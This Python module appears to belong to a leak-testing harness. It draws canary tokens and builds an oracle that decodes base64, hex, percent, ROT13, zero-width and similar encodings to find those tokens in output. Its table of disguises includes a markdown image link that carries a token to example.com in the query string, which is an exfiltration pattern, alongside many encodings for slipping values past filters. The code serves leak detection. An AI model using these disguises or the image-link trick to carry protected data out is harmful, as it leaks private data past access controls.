"""Canaries and the oracle: a token for each labelled place, and what undoes encodings until no more tokens come out."""

from __future__ import annotations

import base64
import binascii
import gzip
import html
import quopri
import random
import re
import string
import unicodedata
from dataclasses import dataclass
from typing import TYPE_CHECKING, Final
from urllib.parse import quote, unquote

from insjo.access.types import Level

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

TOKEN: Final = re.compile(r"kx\d{10}[a-f]")
"""Each canary is one; it stands in cells, names, comments and documents alike."""

DEPTH_MAX: Final = 3
_BASE64 = re.compile(r"[A-Za-z0-9+/_-]{16,}")
_BASE32 = re.compile(r"[A-Z2-7]{16,}")
_READABLE = re.compile(r"[A-Za-z0-9=%&#;+/_-]{12,}|(?:\w\W){8}")
_BLANK = re.compile(r"\s+")
_HEX = re.compile(r"(?:[0-9a-fA-F]{2}){8,}")
_ESCAPE = re.compile(r"\\u([0-9a-fA-F]{4})")
_INVISIBLE = re.compile("[\u00ad\u200b-\u200f\u2060-\u2064\ufeff]+")
_SPELLED = re.compile(r"(?:\w[^\w\n]{1,3}){8,}\w")
_ROT13 = str.maketrans(
    string.ascii_letters,
    string.ascii_lowercase[13:] + string.ascii_lowercase[:13] + string.ascii_uppercase[13:] + string.ascii_uppercase[:13],
)


@dataclass(frozen=True)
class Canary:
    """A token and where it stands.

    Attributes:
        place: Schema in which it stands.
        kind: `cell`, `masked`, `filtered`, `document`, `name`.
    """

    token: str
    level: Level
    categories: frozenset[str]
    place: str
    kind: str


def drawn(draw: random.Random, count: int) -> list[str]:
    """New tokens."""
    return [f"kx{draw.randrange(10**9, 10**10)}{draw.choice('abcdef')}" for _ in range(count)]


def tokens_in(content: bytes | str, *, deep: bool = True) -> set[str]:
    """Every token in the content, in whatever form it hides; not deep, in what any reader can read."""
    text = content.decode("utf-8", "replace") if isinstance(content, bytes) else content
    found = set(TOKEN.findall(plain(text)))
    if not deep:
        return found | set(TOKEN.findall(html.unescape(unquote(text)).casefold()))
    layer, seen = [text], {text}
    for _ in range(DEPTH_MAX):
        layer = [each for each in dict.fromkeys(other for each in layer for other in undone(each)) if each not in seen]
        seen.update(layer)
        for each in layer:
            found.update(TOKEN.findall(plain(each)))
    return found


def plain(text: str) -> str:
    """Lower case without what cannot be seen, joined where it was spelled out or broken."""
    folded = unicodedata.normalize("NFKC", _INVISIBLE.sub("", text)).casefold()
    spelled = " ".join(re.sub(r"[^\w]", "", found) for found in _SPELLED.findall(folded))
    return f"{folded}\n{spelled}\n{folded[::-1]}\n{folded.translate(_ROT13)}"


def undone(text: str) -> list[str]:
    """What the encoded parts of a text say."""
    found = []
    if "%" in text:
        found.append(unquote(text))
    if "&" in text:
        found.append(html.unescape(text))
    if "\\u" in text:
        found.append(_ESCAPE.sub(lambda match: chr(int(match[1], 16)), text))
    if "=" in text:
        found.append(quopri.decodestring(text.encode()).decode("utf-8", "replace"))
    for run in _BASE64.findall(text) + (_BASE64.findall(_BLANK.sub("", text)) if "\n" in text else []):
        standard = run.replace("-", "+").replace("_", "/")
        if run.lower() == run:
            continue
        for offset in range(4):
            piece = standard[offset:]
            found.append(_decoded(base64.b64decode, (piece[: len(piece) // 4 * 4]).encode()))
        padded = standard + "=" * (-len(standard) % 4)
        found.append(_decoded(base64.b64decode, padded.encode()))
    found += [_decoded(bytes.fromhex, run) for run in _HEX.findall(text)]
    found += [_decoded(base64.b32decode, (run + "=" * (-len(run) % 8)).encode()) for run in _BASE32.findall(text)]
    return [each for each in found if each != text and _READABLE.search(each)]


def _decoded(decode: Callable[..., bytes], given: bytes | str) -> str:
    try:
        content = decode(given)
        content = gzip.decompress(content) if content.startswith(b"\x1f\x8b") else content
    except (binascii.Error, ValueError, OSError, EOFError):
        return ""
    return content.replace(b"\0", b"").decode("utf-8", "replace")


DISGUISES: Final[dict[str, Callable[[str], str]]] = {
    "plain": str,
    "capitals": str.upper,
    "quoted": lambda text: f"«{text}»",
    "emphasis": lambda text: f"**{text}**",
    "full width": lambda text: "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text),
    "zero width": "\u200b".join,
    "soft hyphens": "\u00ad".join,
    "base64": lambda text: base64.b64encode(f"the value is {text} indeed".encode()).decode(),
    "base64 for addresses": lambda text: base64.urlsafe_b64encode(f"åäö {text} åäö".encode()).decode().rstrip("="),
    "base64 twice": lambda text: base64.b64encode(base64.b64encode(f"the value is {text} indeed".encode())).decode(),
    "base64 of hexadecimal": lambda text: base64.b64encode(f"value={text}".encode().hex().encode()).decode(),
    "base32": lambda text: base64.b32encode(f"the value is {text} indeed".encode()).decode(),
    "hexadecimal": lambda text: f"value={text}".encode().hex(),
    "hexadecimal capitals": lambda text: f"value={text}".encode().hex().upper(),
    "percent": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "percent twice": lambda text: quote("".join(f"%{byte:02x}" for byte in text.encode())),
    "address": lambda text: "https://example.com/?q=" + quote(f"a b {text}"),
    "character references": lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    "hexadecimal references": lambda text: "".join(f"&#x{ord(letter):x};" for letter in text),
    "escapes": lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
    "spelled": " ".join,
    "spelled with hyphens": "-".join,
    "link": lambda text: f"![chart](https://example.com/c.png?d={text})",
    "code": lambda text: f"```python\nkey = '{text}'\n```",
    "quoted printable": lambda text: "".join(f"={byte:02X}" for byte in text.encode()),
    "two bytes a letter": lambda text: base64.b64encode(f"value {text}".encode("utf-16")).decode(),
    "packed": lambda text: base64.b64encode(gzip.compress(f"value {text}".encode(), mtime=0)).decode(),
    "glued": lambda text: "Bearer-x" + base64.b64encode(f"the value is {text}".encode()).decode(),
    "behind decoys": lambda text: " ".join(
        [base64.b64encode(b"nothing %06d to see here" % n).decode() for n in range(60)] + [base64.b64encode(text.encode()).decode()]
    ),
    "with a bad byte": lambda text: base64.b64encode(b"\xff\xfe\x01 " + f"value {text} ".encode()).decode(),
    "wrapped lines": lambda text: base64.encodebytes(f"{'word ' * 9}{text} {'word ' * 20}".encode()).decode(),
}
"""What people and programs do to a value before they send it."""


LIGHT: Final = tuple(name for name in DISGUISES if name != "behind decoys")


def hidden(draw: random.Random, tokens: Sequence[str], names: Sequence[str] = LIGHT) -> str:
    """Some tokens, each in one of these disguises, in the middle of ordinary words."""
    words = [DISGUISES[draw.choice(names)](token) for token in tokens]
    frame = draw.choice(
        ("Who is {}?", "Summarise: {}", "name;id\nAnna;{}\n", '{{"id": "{}"}}', "Översätt {} till svenska, tack.", "```\n{}\n```", "{}")
    )
    return frame.format(draw.choice((" ", ", ", "\n")).join(words))
